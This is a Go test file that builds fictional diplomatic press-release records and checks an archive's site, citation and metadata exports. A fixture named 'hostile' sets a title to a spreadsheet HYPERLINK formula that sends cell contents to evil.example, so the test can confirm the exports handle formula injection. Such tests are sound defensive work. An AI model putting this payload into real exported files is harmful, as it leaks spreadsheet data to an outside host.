package export

import (
	"bytes"
	"cmp"
	"strings"
	"sync"
	"testing"

	"readout/internal/archive"
	"readout/internal/date"
	"readout/internal/document"
	"readout/internal/record"
	"readout/internal/source"
)

const callText = `Press Releases

Ministers of Aland and Beland speak by telephone

4. On June 18, Foreign Minister Ada Alba of Aland held a telephone conversation with Secretary Bo Brun. They spoke of sanctions & trade.

6. Secretary Brun thanked Aland <warmly>, and recalled “the North”. Questions go to press.office@mfa.example.aa or to bo [at] state.example.bb.

For further information, write to Cy Corr, cy@mfa.example.aa
`

// paperText is of a news medium, of which only an excerpt may be shown.
const paperText = `Ministers shake hands in Seeby after years of silence between the two capitals and their many quarrelsome neighbours on the long northern border

Foreign Minister Ada Alba met with Secretary Bo Brun in Seeby on Tuesday, and the two of them walked for an hour along the lake before anybody was allowed to ask them a question about the border.

The talks were "long and cordial", a person in the room said, and sanctions were on the table from the first minute to the last, although neither of the two ministers would say so when the doors were opened at last. Write to desk@paper.example.
`

const hangulText = "장관 통화\r\n\r\n알바 장관은 브룬 장관과 전화 통화를 갖고 제재 문제에 대해 의견을 교환하였다.\r\n\r\n양측은 \"北\" 문제를 논의하였다.\r\n"

// maker makes records whose evidence is found in the text.
type maker struct {
	t   testing.TB
	src *source.Source
	doc *document.Document
	rec *record.Record
}

func newMaker(t testing.TB, file, text string) *maker {
	t.Helper()
	src, err := source.Decode(file, []byte(text))
	if err != nil {
		t.Fatal(err)
	}
	doc := document.Cut(src, document.Signs{})[0]
	r := &record.Record{File: file, Part: 1, SHA256: src.SHA256, Encoding: src.Encoding, Text: doc.Body()}
	r.Title = record.Fact[string]{Value: doc.Title(), Rule: "headline", Confidence: record.Certain}
	r.Kind = record.Fact[record.Kind]{Value: record.Call, Rule: "held-telephone-conversation", Confidence: record.Certain}
	r.Occasions = []record.Occasion{{Kind: record.Call}}
	for _, b := range doc.Blocks {
		r.Blocks = append(r.Blocks, record.Block{Kind: string(b.Kind), Span: b.Span})
	}
	return &maker{t, src, doc, r}
}

func (m *maker) find(words string) []record.Evidence {
	m.t.Helper()
	i := strings.Index(m.src.Text, words)
	if i < 0 {
		m.t.Fatalf("%q does not stand in the text", words)
	}
	return []record.Evidence{{Span: source.Span{Start: i, End: i + len(words)}, Quote: words, Rule: "words"}}
}

func (m *maker) title(s string) *maker { m.rec.Title.Value = s; return m }

func (m *maker) kind(k record.Kind) *maker {
	m.rec.Kind.Value, m.rec.Occasions[0].Kind = k, k
	return m
}

func dated(t testing.TB, edtf string, c record.Confidence) record.Fact[record.Dating] {
	d, _, err := date.ParseEDTF(edtf)
	if err != nil {
		t.Fatal(err)
	}
	return record.Fact[record.Dating]{Value: record.Dating{Date: d}, Rule: "date-line", Confidence: c}
}

func (m *maker) day(edtf, words string, c record.Confidence) *maker {
	f := dated(m.t, edtf, c)
	f.Evidence = m.find(words)
	f.Value.Clues = []record.Clue{{Rule: "term-of-office", Says: f.Value.Date, Entry: "ada-alba", Evidence: f.Evidence}}
	m.rec.Date, m.rec.Occasions[0].Date = f, f
	return m
}

func (m *maker) published(edtf string) *maker {
	m.rec.Published = dated(m.t, edtf, record.Certain)
	m.rec.Published.Value.Time = "08:28"
	return m
}

func (m *maker) person(name, role, country, words string) *maker {
	p := record.Person{Name: name, Role: role, Country: country, ID: strings.ToLower(country) + "-" + archive.Slug(name, 60)}
	m.rec.Participants = append(m.rec.Participants, record.Fact[record.Person]{Value: p, Rule: "full-name", Confidence: record.Certain, Evidence: m.find(words)})
	m.rec.Occasions[0].Participants = append(m.rec.Occasions[0].Participants, name)
	return m
}

func (m *maker) party(code, name, words string) *maker {
	m.rec.Occasions[0].Parties = append(m.rec.Occasions[0].Parties, code)
	return m.country(code, name, record.Party, words)
}

func (m *maker) country(code, name string, part record.Part, words string) *maker {
	m.rec.Countries = append(m.rec.Countries, record.Fact[record.Country]{Value: record.Country{Code: code, Name: name, Part: part}, Rule: "name", Confidence: record.Certain, Evidence: m.find(words)})
	return m
}

func (m *maker) topic(id, label, words string) *maker {
	m.rec.Topics = append(m.rec.Topics, record.Fact[record.Topic]{Value: record.Topic{ID: id, Label: label, Score: 0.25}, Rule: "phrase", Confidence: record.Certain, Evidence: m.find(words)})
	return m
}

func (m *maker) publisher(id, name, country string, medium bool) *maker {
	m.rec.Publisher = record.Fact[record.Publisher]{Value: record.Publisher{ID: id, Name: name, Country: country, Medium: medium}, Rule: "site", Confidence: record.Certain}
	return m
}

func (m *maker) release() archive.Release {
	return archive.Release{Record: m.rec, Open: func() *document.Document { return m.doc }}
}

// call is a release with everything that a record can hold.
func call(t testing.TB) *maker {
	m := newMaker(t, "call.txt", callText).
		day("2018-06-18", "June 18", record.Inferred).published("2018-06-19").
		person("Ada Alba", "Foreign Minister", "AA", "Foreign Minister Ada Alba").
		person("Bo Brun", "Secretary", "BB", "Secretary Bo Brun").
		party("AA", "Aland", "Aland held").party("BB", "Beland", "Beland").
		country("NN", "North", record.Mentioned, "the North").
		topic("sanctions", "Sanctions", "They spoke of sanctions & trade.").
		publisher("aa-mfa", "Ministry of Foreign Affairs, Trade and {Fish} of Aland", "AA", false)
	m.rec.Address = record.Fact[string]{Value: "https://mfa.example.aa/call?id=1&x=2", Rule: "meta", Confidence: record.Certain}
	m.rec.Language = record.Fact[string]{Value: "en", Rule: "words", Confidence: record.Certain}
	m.rec.Doubts = []record.Doubt{{Field: "date", Message: "The year is not written.", Evidence: m.find("June 18"), Settle: `- {release: call.txt, field: date, set: 2018-06-18, why: "..."}`}}
	m.rec.Corrections = []record.Applied{{Field: "kind", Was: "meeting", Now: "call", Why: "they spoke by telephone"}}
	m.rec.Mentioned = []record.Fact[record.Person]{{Value: record.Person{Name: "Cy Corr", Role: "press, cy@mfa.example.aa"}, Rule: "surname", Confidence: record.Uncertain, Evidence: m.find("Cy Corr, cy@mfa.example.aa")}}
	m.rec.Occasions[0].Place, m.rec.Occasions[0].Evidence = "Seeby", m.find("held a telephone conversation")
	return m
}

// releases are of every sort that data must get right.
func releases(t testing.TB) []archive.Release {
	hostile := newMaker(t, "hostile.txt", callText).title(`=HYPERLINK("https://evil.example/?"&A1,"click") } \ # {`).
		day("[2013-06-18,2018-06-18]", "June 18", record.Uncertain).party("AA", "Aland", "Aland held")
	paper := newMaker(t, "paper.txt", paperText).kind(record.Meeting).day("2018-07-03", "on Tuesday", record.Certain).published("2018-07-04").
		person("Ada Alba", "Foreign Minister", "AA", "Foreign Minister Ada Alba").person("Bo Brun", "Secretary", "BB", "Secretary Bo Brun").
		party("AA", "Aland", "Seeby").party("BB", "Beland", "Seeby").
		topic("sanctions", "Sanctions", "The talks were \"long and cordial\", a person in the room said, and sanctions were on the table from the first minute to the last, although neither of the two ministers would say so when the doors were opened at last.").
		publisher("the-paper", "The Paper", "AA", true)
	paper.rec.Rights = record.Fact[string]{Value: "excerpt", Rule: "front-matter", Confidence: record.Certain}
	paper.rec.Title.Value = record.OneLine(strings.SplitN(paperText, "\n", 2)[0])
	paper.rec.Text = paperText
	paper.rec.Doubts = []record.Doubt{{Field: "topics", Message: "What was said is not told.", Evidence: paper.find(strings.TrimSpace(strings.Split(paperText, "\n\n")[1]))}}
	hangul := newMaker(t, "hangul.txt", hangulText).day("XXXX-06-18", "장관은", record.Inferred).publisher("bb-mfa", "Ministry of Foreign Affairs of Beland", "BB", false).
		party("BB", "Beland", "브룬").party("AA", "Aland", "알바").topic("north", "The North", "北")
	hangul.rec.Text = strings.Replace(hangul.rec.Text, "통화를", "통화\x01를\ronce\\r", 1)
	month := newMaker(t, "month.txt", "Visit planned\n\nThe minister will visit Beland.\n").kind(record.Visit).title("'quoted' \"twice\"").
		day("2019-05", "visit", record.Certain).party("AA", "Aland", "minister").party("BB", "Beland", "Beland")
	month.rec.Occasions = append(month.rec.Occasions, record.Occasion{Kind: record.Signing, Date: dated(t, "2019-05-30/2019-06-02", record.Uncertain), Parties: []string{"AA", "BB", "EU"}})
	month.rec.Countries = append(month.rec.Countries, record.Fact[record.Country]{Value: record.Country{Code: "EU", Name: "European Union", Part: record.Party}, Rule: "name", Confidence: record.Certain})
	return []archive.Release{call(t).release(), hostile.release(), paper.release(), hangul.release(), month.release()}
}

const base = "https://example.org/archive/"

func build(t testing.TB, o archive.Options, rs ...archive.Release) *archive.Archive {
	t.Helper()
	a, err := archive.New(rs, nil, o)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

// sample is an archive of all sorts of releases.
func sample(t testing.TB) *archive.Archive {
	return build(t, archive.Options{Title: "Talks of <Aland>", BaseURL: base, Description: "All of them."}, releases(t)...)
}

// bytesOf writes all files, all at the same time.
func bytesOf(t testing.TB, files []File) map[string]string {
	t.Helper()
	texts := make([]bytes.Buffer, len(files))
	errs := make([]error, len(files))
	var all sync.WaitGroup
	for i, f := range files {
		all.Go(func() { errs[i] = f.Write(&texts[i]) })
	}
	all.Wait()
	out := map[string]string{}
	for i, f := range files {
		if errs[i] != nil {
			t.Fatalf("%s: %v", f.Path, errs[i])
		}
		if _, twice := out[f.Path]; twice {
			t.Fatalf("%s is written twice", f.Path)
		}
		out[f.Path] = texts[i].String()
	}
	return out
}

// everything is all files of the site and all formats of the command.
func everything(t testing.TB, a *archive.Archive) map[string]string {
	t.Helper()
	out := bytesOf(t, Files(a, Options{}))
	for _, f := range Formats() {
		for path, text := range bytesOf(t, f.Files(a, Options{})) {
			if cmp.Or(out[path], text) != text {
				t.Errorf("%s: the command writes another file than the site has", path)
			}
			out[path] = text
		}
	}
	for _, e := range a.Releases {
		m, c := NewHeads(a).Release(e, "Call · 18 June 2018"), Cite(a, e)
		var b strings.Builder
		for _, tag := range m.Tags {
			b.WriteString(tag.Property + tag.Name + ": " + tag.Content + "\n")
		}
		out["page of "+e.ID] = strings.Join([]string{b.String(), m.JSONLD, m.COinS, c.Chicago, c.BibTeX, c.RIS, c.CSL, c.Sentence("s1")}, "\n")
	}
	return out
}
